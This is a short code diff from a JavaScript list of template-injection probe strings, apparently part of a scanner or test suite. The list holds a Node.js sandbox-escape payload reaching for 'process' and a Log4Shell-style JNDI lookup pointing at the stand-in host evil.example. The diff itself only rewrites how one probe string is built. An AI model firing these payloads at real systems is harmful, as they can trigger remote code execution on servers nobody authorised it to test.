@@ -103,7 +103,7 @@ const TEMPLATES = [
   '{# comment #}',
   '$'.concat('{7*7}'),
   '#{7*7}',
-  '<%= 7*7 %>',
+  '<%= 7*7 '.concat('%>'),
   '[[7*7]]',
   '{{constructor.constructor("return process")()}}',
   '$'.concat('{jndi:ldap://evil.example/a}'),
